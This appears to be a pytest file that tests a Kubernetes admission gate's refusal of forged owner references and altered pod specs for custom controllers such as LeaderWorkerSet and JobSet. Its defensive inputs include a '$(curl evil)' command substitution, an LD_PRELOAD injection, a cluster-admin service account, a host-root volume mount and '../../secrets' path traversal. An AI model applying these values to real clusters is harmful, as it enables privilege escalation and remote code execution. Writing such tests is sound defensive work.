"""Nothing passes because it says that a controller of a custom resource made it."""

from __future__ import annotations

import copy
from collections.abc import Callable

import pytest

from placet.parents import Parents
from tests.attack.customs import CONTROLLER, Json, admit, ask, codes, load, other_uid, passes
from tests.simulators.cluster import ObjectStore, owned
from tests.simulators.controllers import group_pod, job_of, leaders_of, replica_set_of
from tests.simulators.gate import GateDesk, example
from tests.simulators.kinds import OTHER_IMAGE


@pytest.fixture
def parents(store: ObjectStore) -> Parents:
    return store


def other_name(child: Json) -> None:
    child["metadata"]["ownerReferences"][0]["name"] = "nobody"


def odd_name(child: Json) -> None:
    child["metadata"]["ownerReferences"][0]["name"] = "../../secrets"


def other_version(child: Json) -> None:
    child["metadata"]["ownerReferences"][0]["apiVersion"] += "9"


def two_controllers(child: Json) -> None:
    child["metadata"]["ownerReferences"] *= 2


def no_uid(child: Json) -> None:
    child["metadata"]["ownerReferences"][0]["uid"] = ""


def spec_of(child: Json) -> Json:
    spec: Json = child["spec"]["template"]["spec"]
    return spec


def other_image(child: Json) -> None:
    spec_of(child)["containers"][0]["image"] = OTHER_IMAGE


def other_arguments(child: Json) -> None:
    spec_of(child)["containers"][0]["args"] = ["--trust-remote-code"]


def added_variable(child: Json) -> None:
    spec_of(child)["containers"][0]["env"].append({"name": "LD_PRELOAD", "value": "/models/x.so"})


def added_container(child: Json) -> None:
    spec_of(child)["containers"].append({"name": "beside", "image": OTHER_IMAGE})


def other_account(child: Json) -> None:
    spec_of(child)["serviceAccountName"] = "cluster-admin"


def added_volume(child: Json) -> None:
    spec_of(child)["volumes"] = [{"name": "root", "hostPath": {"path": "/"}}]


FORGED = {
    other_uid: "parent_replaced",
    other_name: "parent_not_found",
    odd_name: "parent_not_found",
    other_version: "parent_kind_unknown",
    two_controllers: "controllers_ambiguous",
    no_uid: "controller_malformed",
    other_image: "content",
    other_arguments: "content",
    added_variable: "content",
    added_container: "content",
    other_account: "content",
    added_volume: "content",
}
# What refuses other content: where earlier contents of the object count, the record is asked first.
OF_CONTENT = {"rollout": "parent_unapproved", "jobset": "content_differs", "leaderworkerset": "parent_unapproved"}
MAKE: dict[str, Callable[[Json], Json]] = {"rollout": replica_set_of, "jobset": job_of, "leaderworkerset": leaders_of}


@pytest.mark.parametrize("name", MAKE)
@pytest.mark.parametrize(("forge", "code"), FORGED.items())
def test_a_stolen_owner_reference_gets_nothing_in(
    desk: GateDesk, store: ObjectStore, name: str, forge: Callable[[Json], None], code: str
) -> None:
    child = copy.deepcopy(MAKE[name](admit(desk, store, load(name))))
    assert passes(ask(desk, child))
    forge(child)
    expected = OF_CONTENT[name] if code == "content" else code
    if name == "leaderworkerset" and forge is other_version:
        expected = ""  # a StatefulSet that names what nobody knows is judged by itself without a word
    for username in (CONTROLLER, "mallory@example.org"):
        refused = ask(desk, child, username=username)
        assert (refused.allowed, codes(refused)) == (False, {expected} - {""})


@pytest.mark.parametrize("name", MAKE)
def test_a_namesake_of_the_parent_elsewhere_or_made_anew_is_not_the_parent(
    desk: GateDesk, store: ObjectStore, name: str
) -> None:
    parent = admit(desk, store, load(name))
    child = MAKE[name](parent)
    elsewhere = {**child, "metadata": {**child["metadata"], "namespace": "elsewhere"}}
    assert codes(ask(desk, elsewhere)) == {"parent_not_found"}
    store.remove(parent)
    assert codes(ask(desk, child)) == {"parent_not_found"}
    again = {key: value for key, value in parent["metadata"].items() if key != "uid"}
    store.put({**parent, "metadata": again})
    assert codes(ask(desk, child)) == {"parent_replaced"}
    store.answering = False
    refused = ask(desk, child)
    assert [(item.rule, item.code) for item in refused.violations] == [("gate.origin", "parent_unavailable")]


def leader_address(address: str) -> Callable[[Json], None]:
    def forge(child: Json) -> None:
        child["spec"]["containers"][0]["env"][0]["value"] = address

    return forge


def group_size(child: Json) -> None:
    child["spec"]["containers"][0]["env"][1]["value"] = "$(curl evil)"


def address_from_a_field(child: Json) -> None:
    child["spec"]["containers"][0]["env"][0] = {
        "name": "LWS_LEADER_ADDRESS",
        "valueFrom": {"fieldRef": {"fieldPath": "metadata.annotations['x']"}},
    }


def variable_of_another_name(child: Json) -> None:
    child["spec"]["containers"][0]["env"].append({"name": "LWS_LEADER", "value": "1"})


@pytest.mark.parametrize(
    "forge",
    [
        leader_address("evil.example.org"),
        leader_address("evil-0.evil.ml-serving"),
        leader_address("llama-0.llama.other-namespace"),
        leader_address("llama-0.llama.ml-serving.evil.example.org"),
        leader_address("llama-0xllama.ml-serving"),
        leader_address("llama-0.llama.ml-serving\n"),
        group_size,
        address_from_a_field,
        variable_of_another_name,
    ],
)
def test_what_a_controller_adds_counts_in_any_other_form(
    desk: GateDesk, store: ObjectStore, forge: Callable[[Json], None]
) -> None:
    lws = admit(desk, store, load("leaderworkerset"))
    leader = group_pod(lws, store.put(leaders_of(lws)), ordinal=0)
    assert passes(ask(desk, leader))
    forge(leader)
    assert codes(ask(desk, leader)) == {"parent_unapproved"}


def renamed(manifest: Json, name: str) -> Json:
    return {**manifest, "metadata": {**manifest["metadata"], "name": name}}


def built_in(kind: str, template: Json) -> Json:
    """A batch workload of the name, namespace and Pods that a custom one has."""
    metadata = {
        key: copy.deepcopy(example()["metadata"][key]) for key in ("name", "namespace", "labels", "annotations")
    }
    spec: Json = {"template": copy.deepcopy(template)}
    if kind == "CronJob":
        spec = {"schedule": "0 0 * * *", "jobTemplate": {"spec": spec}}
    return {"apiVersion": "batch/v1", "kind": kind, "metadata": metadata, "spec": spec}


@pytest.mark.parametrize("kind", ["CronJob", "Job"])
def test_a_custom_job_is_no_child_of_what_is_named_like_a_maker_of_jobs(
    desk: GateDesk, store: ObjectStore, kind: str
) -> None:
    job = load("volcano-job")
    template = job["spec"]["tasks"][0]["template"]
    approved = admit(desk, store, built_in(kind, template))
    claimed = ask(desk, owned(renamed(job, "made"), approved))
    assert not claimed.allowed
    signatures = {key: text for key, text in approved["metadata"]["annotations"].items() if ".approval" in key}
    carried = {**job, "metadata": {**job["metadata"], "annotations": signatures}}
    assert not ask(desk, carried).allowed


def test_a_daemon_set_of_another_group_is_no_child_and_no_parent_in_place_of_the_built_in_one(
    desk: GateDesk, store: ObjectStore
) -> None:
    theirs = admit(desk, store, load("kruise-daemonset"))
    bare = {
        "apiVersion": "v1",
        "kind": "Pod",
        "metadata": {"name": "llama-x", "namespace": "ml-serving"},
        "spec": copy.deepcopy(theirs["spec"]["template"]["spec"]),
    }
    claimed = owned(bare, theirs)
    claimed["metadata"]["ownerReferences"][0]["apiVersion"] = "apps/v1"
    refused = ask(desk, claimed)
    assert (refused.allowed, refused.change) == (False, "new")
    deployment = admit(desk, store, example())
    assert not ask(desk, owned(renamed(load("kruise-daemonset"), "made"), deployment)).allowed


def test_two_kinds_of_one_name_do_not_share_approvals(desk: GateDesk, store: ObjectStore) -> None:
    approved = admit(desk, store, load("kubeai-model"))
    signatures = {key: text for key, text in approved["metadata"]["annotations"].items() if ".approval" in key}
    other = load("seldon-model")
    carried = {**other, "metadata": {**other["metadata"], "annotations": signatures}}
    assert not ask(desk, carried).allowed
    assert not ask(desk, {**carried, "spec": approved["spec"]}).allowed
